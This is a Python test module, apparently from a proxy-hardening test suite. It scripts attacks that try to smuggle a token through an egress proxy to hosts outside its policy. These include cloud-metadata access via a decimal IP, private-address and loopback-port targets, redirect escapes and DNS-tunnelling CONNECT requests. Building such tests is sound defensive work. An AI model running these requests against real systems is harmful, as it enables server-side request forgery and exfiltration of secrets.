"""Case 23, through the egress proxy: what a challenge that may reach a host may not reach by it."""

from __future__ import annotations

from tests.hostile.attack import SUCCEEDED, Attack, Control, Facts
from tests.hostile.world import INSIDE, LISTED, LOOPBACK, METADATA, OTHER

_ASK = """
import base64, re, socket
from urllib.parse import urlsplit
proxy = urlsplit(rogue.server.config.proxy_url)
word = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
def ask(url, method="GET"):
    host = url if method == "CONNECT" else urlsplit(url).netloc
    lines = [f"{method} {url} HTTP/1.1", f"Host: {host}", f"Proxy-Authorization: Basic {word}", "", ""]
    answer = b""
    try:
        with socket.create_connection((proxy.hostname, proxy.port), timeout=8) as to:
            to.sendall("\\r\\n".join(lines).encode())
            while len(answer) < 4000 and (more := to.recv(4000)):
                answer += more
    except OSError as error:
        tell(url, error)
    text = answer.decode("latin-1")
    tell(url, text)
    return text
"""


def _attack(name: str, clause: str, program: str, control: Control, at: str) -> Attack:
    def won(facts: Facts) -> bool:
        return any(at in where for where in facts.trapped)

    return Attack(name, 23, clause, "challenge", _ASK + program, control, won, outcomes=SUCCEEDED)


_HOSTS = Control("hosts of the policy", "the proxy lets any host pass; all that is there are traps")

EGRESS = [
    _attack(
        "a host outside the policy",
        "outside-policy",
        f"""
ask("http://{OTHER}/@TOKEN@")
ask("http://{LISTED}.{OTHER}/@TOKEN@")
ask("http://{METADATA}/@TOKEN@")
ask("http://2852039166/@TOKEN@")
""",
        _HOSTS,
        OTHER,
    ),
    _attack(
        "a port outside the policy",
        "outside-policy",
        f'ask("http://{LISTED}:{LOOPBACK}/@TOKEN@")\n',
        Control("ports of the policy", "the proxy lets any port pass"),
        f" {LOOPBACK} ",
    ),
    _attack(
        "a listed host at a private address",
        "private-address",
        f'ask("http://{INSIDE}/@TOKEN@")\n',
        Control("public addresses", "the proxy connects to whatever a name resolves to"),
        METADATA,
    ),
    _attack(
        "a redirect out of the list",
        "redirect",
        f"""
answer = ask("http://{LISTED}/redirect/@TOKEN@")
found = re.search("(?i)location: ([^\\\\r]+)", answer)
tell("redirected:", bool(found))
if found:
    ask(found[1])
""",
        _HOSTS,
        OTHER,
    ),
    _attack(
        "DNS tunnelling through the proxy",
        "dns-tunnel",
        f"""
ask("http://@TOKEN@.{OTHER}/")
ask("@TOKEN@.{OTHER}:80", "CONNECT")
""",
        _HOSTS,
        "udp",
    ),
]
